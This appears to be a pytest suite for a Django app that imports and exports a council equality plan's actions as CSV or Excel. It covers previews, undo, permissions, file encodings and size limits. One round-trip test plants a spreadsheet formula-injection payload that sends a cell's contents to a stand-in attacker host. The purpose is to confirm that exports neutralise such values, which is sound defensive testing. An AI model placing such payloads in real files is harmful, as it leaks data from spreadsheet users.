"""Importing a plan's actions never loses data: checked first, exactly what was shown, blanks only
when asked, people's reports kept, and undone as a whole."""

import codecs
import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from equality_plans import importing, services
from equality_plans import stored as plans_stored
from equality_plans.demo import KINGSTON_CSV
from equality_plans.models import Action, ProgressUpdate, Section
from sla_monitor.models import ImportBatch, User
from sla_monitor.tables import read_table
from tests.factories import ActionPlanFactory, ImportBatchFactory, UserFactory
from tests.workbooks import one_long_text, wide

pytestmark = pytest.mark.django_db


def table_of(content: bytes, name: str = "actions.csv"):
    return read_table(name, content, known_headers=importing.known_headers())


def check(plan, manager, content: bytes, name: str = "actions.csv"):
    return services.check_import(
        plan=plan, file_name=name, table=table_of(content, name), by=manager
    )


def import_file(plan, manager, content: bytes, name="actions.csv", *, blank_fields=False):
    preview, batch = check(plan, manager, content, name)
    assert not preview.problems, preview.problems
    if batch is None:
        return preview, None
    return preview, services.import_actions(
        plan=plan, batch_id=batch.pk, by=manager, blank_fields=blank_fields
    )


def csv_bytes(rows: list[list[str]], *, delimiter=",", encoding="utf-8") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def dump(plan) -> list:
    """Everything a plan's actions hold, to compare before and after."""
    actions = Action.objects.filter(plan=plan).order_by("number").prefetch_related("strands")
    return [
        (
            a.number,
            a.order,
            a.section.title,
            a.wording,
            a.linked_strategies,
            a.lead_responsibility,
            a.timescale,
            a.due_date,
            a.monitored_by,
            a.partner_authorities_text,
            a.outcome,
            sorted(s.code for s in a.strands.all()),
            sorted(
                (u.financial_year, u.quarter, u.rag_status, u.narrative, u.author_id)
                for u in a.progress_updates.all()
            ),
        )
        for a in actions
    ] + [sorted(plan.sections.values_list("title", flat=True))]


@pytest.fixture
def imported(plan, manager):
    import_file(plan, manager, KINGSTON_CSV.read_bytes(), KINGSTON_CSV.name)
    return plan


# The sample and idempotence -------------------------------------------------------------------


def test_the_sample_previews_63_new_actions_without_errors(plan, manager):
    preview, batch = check(plan, manager, KINGSTON_CSV.read_bytes())

    assert preview.problems == []
    assert (preview.creates, preview.updates, preview.unchanged) == (63, 0, 0)
    assert batch.status == ImportBatch.Status.CHECKED
    assert not Action.objects.filter(plan=plan).exists()


def test_importing_the_sample_twice_changes_nothing_the_second_time(imported, manager):
    before = dump(imported)

    preview, batch = check(imported, manager, KINGSTON_CSV.read_bytes())

    assert len(before) == 64 and imported.sections.count() == 6
    assert preview.nothing_to_change and batch is None
    assert (preview.creates, preview.updates, preview.unchanged) == (0, 0, 63)
    assert dump(imported) == before
    first = Action.objects.get(plan=imported, number="1")
    assert sorted(first.strands.values_list("code", flat=True)) == sorted(
        ["A", "D", "G", "M/CP", "P/M", "R", "RB", "SO"]
    )


def test_a_changed_file_is_nothing_to_change_once_imported(imported, manager):
    rows = list(csv.reader(io.StringIO(KINGSTON_CSV.read_text(encoding="utf-8-sig"))))
    rows[3][3] = "Equalities training for all staff and members"
    changed = csv_bytes(rows)

    first, _ = import_file(imported, manager, changed)
    second, batch = check(imported, manager, changed)

    assert (first.updates, first.rows[2].changes[0].label) == (1, "Action")
    assert second.nothing_to_change and batch is None


# Round trip of the plan's own export ------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_plans_own_export_imports_back_with_nothing_to_change(imported, manager, client, fmt):
    action = Action.objects.get(plan=imported, number="5")
    action.wording = '=HYPERLINK("http://evil.example/?"&A2,"Click") and more'
    action.partner_authorities_text = "RBK, LBS"
    action.outcome = "Fewer complaints."
    action.save()
    ProgressUpdate.objects.create(
        action=action,
        financial_year=2015,
        quarter=2,
        rag_status="amber",
        narrative="-started late",
        author=manager,
    )
    plans_stored.refresh_latest_rag([action.pk])
    client.force_login(manager)
    before = dump(imported)

    export = client.get(reverse("equality_plans:actions_export", args=[imported.pk, fmt]))
    preview, batch = check(imported, manager, export.content, f"plan.{fmt}")

    assert preview.problems == []
    assert preview.nothing_to_change, [(r.key, r.changes) for r in preview.rows if r.changes]
    assert batch is None
    assert dump(imported) == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_plans_export_carries_every_field_an_import_sets(imported, manager, client, fmt):
    action = Action.objects.get(plan=imported, number="5")
    action.outcome = "Fewer complaints about access to services."
    action.partner_authorities_text = "RBK, LBS"
    action.due_date = dt.date(2016, 1, 31)
    action.save()
    copy = ActionPlanFactory(owner=imported.owner, title="A copy")
    client.force_login(manager)

    export = client.get(reverse("equality_plans:actions_export", args=[imported.pk, fmt]))
    import_file(copy, manager, export.content, f"plan.{fmt}")

    def fields(plan):
        return [row[:1] + row[2:-1] for row in dump(plan)[:-1]]

    assert fields(copy) == fields(imported)


# Never blank ------------------------------------------------------------------------------------


def test_a_column_the_file_leaves_out_is_left_alone(imported, manager):
    before = {a.number: a for a in Action.objects.filter(plan=imported)}

    preview, _ = import_file(
        imported, manager, csv_bytes([["No", "Action"], ["3", "Training for all staff"]])
    )

    after = Action.objects.get(plan=imported, number="3")
    assert [c.label for c in preview.rows[0].changes] == ["Action"]
    assert after.wording == "Training for all staff"
    for name in ("lead_responsibility", "timescale", "due_date", "monitored_by", "section"):
        assert getattr(after, name) == getattr(before["3"], name)
    assert list(after.strands.all()) == list(before["3"].strands.all())
    assert "Not in the file, so left as they are: Section, ES & CC, Monitored By." in preview.notes


def test_an_empty_cell_blanks_only_when_the_person_asks(imported, manager):
    action = Action.objects.get(plan=imported, number="3")
    lead, monitored = action.lead_responsibility, action.monitored_by
    file = csv_bytes([["No", "Lead Responsibility", "Monitored By"], ["3", "", monitored]])

    preview, _ = import_file(imported, manager, file)
    kept = Action.objects.get(pk=action.pk).lead_responsibility
    import_file(imported, manager, file, blank_fields=True)
    emptied = Action.objects.get(pk=action.pk).lead_responsibility

    ((row, blank),) = preview.blanks
    assert (row.key, blank.label, blank.before) == ("3", "Lead Responsibility", lead)
    assert kept == lead
    assert emptied == ""


def test_the_preview_page_says_what_would_be_emptied_and_asks(imported, manager, client):
    client.force_login(manager)
    file = csv_bytes([["No", "Lead Responsibility"], ["3", ""]])

    html = client.post(
        reverse("equality_plans:plan_import", args=[imported.pk]),
        {"file": SimpleUploadedFile("blank.csv", file)},
    ).content.decode()

    assert "1 field would be emptied" in html
    assert "Also empty the fields listed as emptied" in html
    assert "would be emptied</li>" in html


def test_the_preview_page_names_the_file_and_shows_what_a_new_action_and_report_hold(
    imported, manager, client
):
    client.force_login(manager)
    new_action = csv_bytes(
        [
            ["No", "Section", "ES & CC", "Action", "Timescale"],
            ["99", "Finance", "R, D", "Translate the council tax leaflet", "Q3 2016/17"],
        ]
    )
    report = csv_bytes(
        [["No", "Year End Report", "Year End RAG"], ["2", "Done and reported.", "green"]]
    )
    url = reverse("equality_plans:plan_import", args=[imported.pk])

    added = client.post(url, {"file": SimpleUploadedFile("new.csv", new_action)}).content.decode()
    reported = client.post(url, {"file": SimpleUploadedFile("report.csv", report)}).content.decode()

    assert "What importing “new.csv” would do" in added
    assert "<strong>Timescale</strong>: Q3 2016/17" in added
    assert "<strong>ES &amp; CC</strong>: R, D" in added
    assert "<strong>Due date</strong>: 31/12/2016" in added
    assert "<strong>Year End Report</strong>: adds “Done and reported. (Green)”" in reported


def test_a_file_with_nothing_to_change_shows_no_empty_table(imported, manager, client):
    client.force_login(manager)
    export = client.get(reverse("equality_plans:actions_export", args=[imported.pk, "csv"]))

    html = client.post(
        reverse("equality_plans:plan_import", args=[imported.pk]),
        {"file": SimpleUploadedFile("plan.csv", export.content)},
    ).content.decode()

    assert "Nothing to change." in html and "matches the plan as it is" in html
    assert "rows that change something" not in html
    assert "seed" not in html


# People's words are kept ------------------------------------------------------------------------


def test_an_owners_year_end_report_survives_an_import(imported, manager):
    owner = UserFactory(action_owner=True, organisation=imported.owner)
    action = Action.objects.get(plan=imported, number="2")
    owners = ProgressUpdate.objects.create(
        action=action,
        financial_year=2015,
        is_year_end=True,
        rag_status="green",
        narrative="All staff trained; the owner's own words.",
        author=owner,
    )
    plans_stored.refresh_latest_rag([owners.action_id])
    file = csv_bytes(
        [
            ["No", "Year End Report", "Year End RAG"],
            ["2", "Imported words.", "Red"],
            ["4", "Recruitment monitored quarterly.", "Amber"],
        ]
    )

    preview, _ = import_file(imported, manager, file)

    owners.refresh_from_db()
    assert (owners.narrative, owners.author, owners.rag_status) == (
        "All staff trained; the owner's own words.",
        owner,
        "green",
    )
    assert action.progress_updates.count() == 1
    assert "Keeps the year-end report" in preview.rows[0].notes[0]
    added = ProgressUpdate.objects.get(action__number="4", action__plan=imported)
    assert (added.author, added.narrative, added.rag_status) == (
        manager,
        "Recruitment monitored quarterly.",
        "amber",
    )


# Undo -----------------------------------------------------------------------------------------


def test_undo_puts_every_field_back_and_removes_what_it_added(imported, manager):
    before = dump(imported)
    file = csv_bytes(
        [
            [
                "Section",
                "No",
                "ES & CC",
                "Action",
                "Lead Responsibility",
                "Year End Report",
                "Year End RAG",
            ],
            ["New directorate", "64", "D", "A new action", "Head of Service", "", ""],
            ["Corporate", "3", "R", "Changed wording", "", "Done.", "Completed"],
        ]
    )
    _, batch = import_file(imported, manager, file, blank_fields=True)
    assert dump(imported) != before

    services.undo_import(plan=imported, batch=batch, by=manager)

    batch.refresh_from_db()
    assert dump(imported) == before
    assert (batch.status, batch.undone_by) == (ImportBatch.Status.UNDONE, manager)
    assert not Section.objects.filter(plan=imported, title="New directorate").exists()


def test_undo_is_refused_when_an_action_changed_since(imported, manager):
    _, batch = import_file(
        imported, manager, csv_bytes([["No", "Action"], ["3", "Training for all staff"]])
    )
    Action.objects.filter(plan=imported, number="3").update(wording="Edited in the app.")
    before = dump(imported)

    with pytest.raises(ValidationError, match="has been changed since"):
        services.undo_import(plan=imported, batch=batch, by=manager)

    assert dump(imported) == before


def test_undo_is_refused_when_it_would_remove_an_owners_update(imported, manager):
    _, batch = import_file(
        imported,
        manager,
        csv_bytes([["Section", "No", "Action"], ["Corporate", "70", "A new action"]]),
    )
    started = ProgressUpdate.objects.create(
        action=Action.objects.get(plan=imported, number="70"),
        financial_year=2015,
        quarter=3,
        rag_status="green",
        narrative="Started.",
        author=manager,
    )
    plans_stored.refresh_latest_rag([started.action_id])

    with pytest.raises(ValidationError, match="would also remove"):
        services.undo_import(plan=imported, batch=batch, by=manager)
    assert Action.objects.filter(plan=imported, number="70").exists()


def test_the_import_history_undoes_from_the_page(imported, manager, client):
    _, batch = import_file(imported, manager, csv_bytes([["No", "Action"], ["3", "Changed."]]))
    client.force_login(manager)

    page = client.get(reverse("equality_plans:plan_imports", args=[imported.pk]))
    undo_url = reverse("equality_plans:plan_import_undo", args=[imported.pk, batch.pk])
    asked = client.get(undo_url)
    unchanged = Action.objects.get(plan=imported, number="3").wording
    undone = client.post(undo_url, follow=True)

    assert "actions.csv" in page.content.decode()
    assert f'href="{undo_url}"' in page.content.decode()
    assert unchanged == "Changed."
    assert [(c.count, c.kind) for c in asked.context["undoing"].puts_back] == [(1, "action")]
    assert "was undone" in undone.content.decode()
    assert "Undone by" in undone.content.decode()


# Confirming exactly what was shown, once ----------------------------------------------------


def test_a_checked_file_is_imported_once(imported, manager):
    _, batch = check(imported, manager, csv_bytes([["No", "Action"], ["3", "Changed."]]))
    services.import_actions(plan=imported, batch_id=batch.pk, by=manager)

    with pytest.raises(ValidationError, match="has already been imported"):
        services.import_actions(plan=imported, batch_id=batch.pk, by=manager)
    assert ImportBatch.objects.filter(status=ImportBatch.Status.IMPORTED).count() == 2


def test_a_plan_changed_since_the_check_is_not_imported(imported, manager):
    _, batch = check(imported, manager, csv_bytes([["No", "Action"], ["3", "Changed."]]))
    Action.objects.filter(plan=imported, number="3").update(wording="Someone else's edit.")

    with pytest.raises(ValidationError, match="has changed since the file was checked"):
        services.import_actions(plan=imported, batch_id=batch.pk, by=manager)
    assert Action.objects.get(plan=imported, number="3").wording == "Someone else's edit."


def test_a_check_kept_before_the_import_engine_kept_sheets_is_refused_with_a_message(
    imported, manager, client
):
    _, batch = check(imported, manager, csv_bytes([["No", "Action"], ["3", "Changed."]]))
    ImportBatch.objects.filter(pk=batch.pk).update(  # one sheet's rows, as checks once were kept
        rows={"headers": ["No", "Action"], "rows": [["3", "Changed."]]}
    )
    before = dump(imported)
    client.force_login(manager)

    response = client.post(
        reverse("equality_plans:plan_import_confirm", args=[imported.pk]),
        {"batch": batch.pk},
        follow=True,
    )

    assert "There is no checked file to import: upload it again." in response.content.decode()
    assert dump(imported) == before


def test_someone_elses_check_cannot_be_confirmed(imported, manager):
    _, batch = check(imported, manager, csv_bytes([["No", "Action"], ["3", "Changed."]]))
    colleague = UserFactory(role=User.Role.PLAN_MANAGER, organisation=imported.owner)

    with pytest.raises(ValidationError, match="no checked file"):
        services.import_actions(plan=imported, batch_id=batch.pk, by=colleague)


def test_only_plan_managers_and_admins_import(plan, manager):
    owner = UserFactory(action_owner=True, organisation=plan.owner)

    with pytest.raises(PermissionDenied):
        check(plan, owner, KINGSTON_CSV.read_bytes())


def test_upload_check_then_confirm_in_the_browser_flow(plan, manager, client):
    client.force_login(manager)

    preview = client.post(
        reverse("equality_plans:plan_import", args=[plan.pk]),
        {"file": SimpleUploadedFile("kingston.csv", KINGSTON_CSV.read_bytes())},
    )
    confirmed = client.post(
        reverse("equality_plans:plan_import_confirm", args=[plan.pk]),
        {"batch": preview.context["batch"].pk},
        follow=True,
    )
    replayed = client.post(
        reverse("equality_plans:plan_import_confirm", args=[plan.pk]),
        {"batch": preview.context["batch"].pk},
        follow=True,
    )

    assert "<strong>63</strong> actions to add" in preview.content.decode()
    assert "63 actions added" in confirmed.content.decode()
    assert "has already been imported" in replayed.content.decode()
    assert Action.objects.filter(plan=plan).count() == 63


def test_confirming_without_a_checked_file_says_so(plan, manager, client):
    client.force_login(manager)

    response = client.post(
        reverse("equality_plans:plan_import_confirm", args=[plan.pk]), follow=True
    )

    assert "There is no checked file to import" in response.content.decode()


# Rows the database would refuse ----------------------------------------------------------------


def test_every_error_is_reported_with_its_row_and_column(plan, manager):
    file = csv_bytes(
        [
            ["Section", "No", "ES & CC", "Action", "Year End Report", "Monitored By"],
            ["Finance", "1", "A, XY", "Pensions", "", ""],
            ["Finance", "2", "D", "", "", ""],
            ["Finance", "1", "R", "Interpreting review", "", ""],
            ["Finance", "4", "", "Report", "Done.", ""],
            ["Finance", "5", "", "Nul\x00byte", "", ""],
            ["Finance", "6", "", "Long", "", "x" * 301],
            ["Finance", "7" * 21, "", "Long number", "", ""],
        ]
    )

    problems = check(plan, manager, file)[0].problems

    assert [(p.row, p.column) for p in problems] == [
        (2, "ES & CC"),
        (3, "Action"),
        (4, "No"),
        (5, "Year End RAG"),
        (6, "Action"),
        (7, "Monitored By"),
        (8, "No"),
    ]
    assert "“XY” is not a strand code." in problems[0].message
    assert "also used in row 2" in problems[2].message
    assert "300 characters" in problems[5].message


def test_a_file_with_an_error_imports_nothing_and_keeps_no_check(plan, manager):
    rows = list(csv.reader(io.StringIO(KINGSTON_CSV.read_text(encoding="utf-8-sig"))))
    rows[40][2] = "Q"

    preview, batch = check(plan, manager, csv_bytes(rows))

    assert len(preview.problems) == 1 and batch is None
    assert not Action.objects.filter(plan=plan).exists()


# Files as people have them ------------------------------------------------------------------------

SMALL = [
    ["Section", "No", "ES & CC", "Action", "Lead Responsibility & Timescales"],
    [
        "Finance",
        "1",
        "D",
        "Accessible payment options \u2013 £5 fee waived",
        "Head of Finance 2015-16",
    ],
    ["Finance", "2", "R, RB", "Interpreting “review”", "Customer Services On-going"],
]


def _small(**options) -> bytes:
    return csv_bytes(SMALL, **options)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(_small(), id="utf-8"),
        pytest.param(codecs.BOM_UTF8 + _small(), id="utf-8 with BOM"),
        pytest.param(_small().replace(b"\r\n", b"\r"), id="CR only"),
        pytest.param(
            _small(encoding="mac_roman").replace(b"\r\n", b"\r"),
            id="CSV (Macintosh): CR only, Mac Roman",
        ),
        pytest.param(_small().replace(b"\r\n", b"\n"), id="LF only"),
        pytest.param(_small(encoding="utf-16"), id="UTF-16 with BOM"),
        pytest.param(_small(encoding="utf-16-le"), id="UTF-16 without BOM"),
        pytest.param(_small(encoding="cp1252"), id="Windows-1252"),
        pytest.param(_small(delimiter=";"), id="semicolons"),
        pytest.param(_small(delimiter="\t"), id="tabs"),
        pytest.param(xlsx_bytes(SMALL), id="xlsx"),
    ],
)
def test_files_from_any_tool_read_the_same(plan, manager, content):
    name = "plan.xlsx" if content.startswith(b"PK") else "plan.csv"

    preview, _ = import_file(plan, manager, content, name)

    assert preview.creates == 2
    first = Action.objects.get(plan=plan, number="1")
    assert first.wording == "Accessible payment options \u2013 £5 fee waived"
    assert (first.lead_responsibility, first.timescale, first.due_date) == (
        "Head of Finance",
        "2015-16",
        dt.date(2016, 3, 31),
    )
    second = Action.objects.get(plan=plan, number="2")
    assert sorted(second.strands.values_list("code", flat=True)) == ["R", "RB"]


def _protected_workbook() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 512


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("plan.csv", b"", "The file is empty."),
        ("plan.csv", b"\x81\x8d\x8f, not text", "could not be read"),
        ("plan.csv", b"No,Action\n1,\x00\x01\x02\x03binary", "not a spreadsheet"),
        ("plan.csv", b"No,Action\n1," + b"x" * 131_073, "longer than"),
        ("plan.csv", b"No,Action\n1," + b"x" * 25_000, "longer than 20,000"),
        ("plan.csv", b"x" * (5 * 1024 * 1024 + 1), "larger than 5 MB"),
        ("plan.xlsx", b"PK\x03\x04 not really a workbook", "not an Excel workbook"),
        ("plan.xlsx", _protected_workbook(), "password-protected"),
        ("plan.pdf", b"%PDF-1.4", "Choose a CSV or Excel (.xlsx) file."),
        ("plan.csv", b"No,Action\n" + b"1,a\n" * 5001, "more than 5,000 rows"),
    ],
)
def test_a_file_that_cannot_be_read_says_why_and_changes_nothing(
    imported, manager, client, name, content, message
):
    before = (dump(imported), ImportBatch.objects.count())
    client.force_login(manager)

    response = client.post(
        reverse("equality_plans:plan_import", args=[imported.pk]),
        {"file": SimpleUploadedFile(name, content)},
    )

    assert response.status_code == 200
    assert message in response.content.decode()
    assert "There is a problem" in response.content.decode()
    assert (dump(imported), ImportBatch.objects.count()) == before


@pytest.mark.parametrize(
    ("build", "message"),
    [
        (wide, "Row 1 of the sheet “Sheet1” has more than 200 columns."),
        (one_long_text, "The workbook holds a text longer than 32,767 characters"),
    ],
)
def test_a_workbook_too_big_to_read_is_refused_on_the_page_and_changes_nothing(
    imported, manager, client, build, message
):
    before = (dump(imported), ImportBatch.objects.count())
    client.force_login(manager)

    response = client.post(
        reverse("equality_plans:plan_import", args=[imported.pk]),
        {"file": SimpleUploadedFile("plan.xlsx", build())},
    )

    summary = response.content.decode().split("data-error-summary>")[1].split("</div>")[0]
    assert response.status_code == 200
    assert "There is a problem" in summary and message in summary
    assert (dump(imported), ImportBatch.objects.count()) == before


def test_a_long_workbook_is_refused_while_it_is_read():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["No", "Action"])
    for n in range(6000):
        sheet.append([n, "a"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    with pytest.raises(ValidationError, match="more than 5,000 rows"):
        table_of(buffer.getvalue(), "long.xlsx")


def _calculated(content: bytes, cell: str, value: str) -> bytes:
    """The workbook as a spreadsheet saves it: the formula in `cell` with its calculated value."""
    source, result = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(result, "w") as saved:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = re.sub(
                    rf'<c r="{cell}"([^>]*)><f>(.*?)</f><v\s*/?>(</v>)?</c>'.encode(),
                    rf'<c r="{cell}" t="str"><f>\2</f><v>{value}</v></c>'.encode(),
                    data,
                )
            saved.writestr(name, data)
    return result.getvalue()


def test_a_formula_is_read_as_the_value_excel_calculated_never_as_a_formula(plan, manager):
    made = xlsx_bytes([["Section", "No", "Action"], ["Finance", "1", '=HYPERLINK("x","Pay")']])

    table = table_of(_calculated(made, "C2", "Pay staff on time"), "plan.xlsx")

    assert table.rows[0][2] == "Pay staff on time"


def test_a_formula_that_calculated_an_empty_text_reads_empty(plan, manager):
    made = xlsx_bytes([["Section", "No", "Action"], ["Finance", "1", '=IF(1,"","x")']])

    table = table_of(_calculated(made, "C2", ""), "plan.xlsx")

    assert table.rows[0][2] == ""


def test_a_formula_no_spreadsheet_has_calculated_is_refused_by_its_cell(plan, manager):
    made = xlsx_bytes([["Section", "No", "Action"], ["Finance", "1", '=CONCAT("a","b")']])

    with pytest.raises(ValidationError, match="Cell C2 holds a formula that has no value"):
        table_of(made, "plan.xlsx")


def test_an_unknown_column_is_named_and_ignored(plan, manager):
    file = csv_bytes([["No", "Section", "Action", "Colour"], ["1", "Finance", "Pay", "Blue"]])

    preview, _ = check(plan, manager, file)

    assert "Not recognised, so not imported: Colour." in preview.notes
    assert preview.creates == 1


def test_headings_are_matched_whatever_their_case_spacing_and_ampersands(plan, manager):
    file = csv_bytes(
        [
            ["no", "  SECTION ", "es and cc", "action", "Lead responsibility and timescales"],
            ["1", "Finance", "D", "Pay", "Head of Finance 2015-16"],
        ]
    )

    import_file(plan, manager, file)

    action = Action.objects.get(plan=plan, number="1")
    assert (action.lead_responsibility, action.timescale) == ("Head of Finance", "2015-16")


def test_imports_and_undos_are_in_the_audit_log(imported, manager, client):
    _, batch = import_file(imported, manager, csv_bytes([["No", "Action"], ["3", "Changed."]]))
    services.undo_import(plan=imported, batch=batch, by=manager)
    client.force_login(UserFactory(superuser=True, username="root"))

    events = client.get(reverse("oversight:audit_log"), {"kind": "import"}).context["events"]

    assert [e.what for e in events][:2] == [
        "Undid the import of “actions.csv” into Kingston plan",
        "Imported “actions.csv” into Kingston plan: 0 added, 1 updated",
    ]


def test_the_import_history_runs_the_same_queries_for_few_files_and_many(
    plan, manager, client, same_queries
):
    client.force_login(manager)

    def files(count: int) -> None:
        ImportBatchFactory.create_batch(count, target=plan, kind="plan_actions", imported=True)
        ImportBatchFactory.create_batch(count, target=plan, kind="plan_actions", undone=True)
        ImportBatchFactory(target=plan, kind="plan_actions")  # checked only: not listed

    files(1)

    counted = same_queries(
        lambda: client.get(reverse("equality_plans:plan_imports", args=[plan.pk])),
        grow=lambda: files(15),
    )

    assert len(counted.result.context["batches"]) == 32
